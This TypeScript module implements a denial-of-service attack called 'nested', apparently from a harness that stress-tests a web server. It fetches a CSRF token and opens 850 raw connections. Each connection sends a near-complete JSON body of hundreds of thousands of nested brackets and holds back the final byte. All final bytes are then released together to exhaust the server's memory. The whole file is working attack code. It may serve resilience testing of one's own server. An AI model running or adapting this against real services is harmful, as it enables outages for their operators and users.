import { setTimeout as sleep } from 'node:timers/promises';
import { createHttpCaller } from './http-caller.ts';
import { openConnection } from './raw-connection.ts';
import type { Attack, Target } from './target.ts';

const connections = 850;
/** Within the limit of a body, and beyond it. */
const sizes = [190_000, 256_000];

/**
 * Bodies of nothing but nested lists, each on a connection of its own, complete but for the last byte; then all last bytes at
 * once. Parsed together they would need gigabytes.
 */
export const nested: Attack = async ({ target, count }) => {
  const caller = createHttpCaller(target, target.addresses[0]!);
  const csrf = String((await caller.get('/api/config')).data.csrf);
  for (let wave = 0; Date.now() < target.ends; wave += 1) {
    // Lists within lists, all closed: what is parsed of them is held.
    const size = sizes[wave % sizes.length]!;
    const body = Buffer.alloc(size, '[').fill(']', size / 2);
    const waiting = await Promise.all(Array.from({ length: connections }, () => prepare(target, csrf, body)));
    for (const { socket } of waiting) socket.write(']');
    const answered = await Promise.all(waiting.map(({ status }) => status(10_000)));
    for (const status of answered) count(`body ${status}`);
    for (const { socket } of waiting) socket.destroy();
    await sleep(500);
  }
};

async function prepare(target: Target, csrf: string, body: Buffer) {
  const opened = await openConnection(target, target.addresses[0]!);
  const head = `POST /api/quote/save HTTP/1.1\r\nhost: 127.0.0.1:${target.port}\r\ncontent-type: application/json`;
  opened.socket.write(`${head}\r\nx-csrf-token: ${csrf}\r\ncontent-length: ${body.length}\r\n\r\n`);
  const sent = new Promise((resolve) => opened.socket.write(body.subarray(0, -1), resolve));
  // One that is refused unread may never be taken.
  await Promise.race([sent, opened.closed, sleep(3000)]);
  return opened;
}
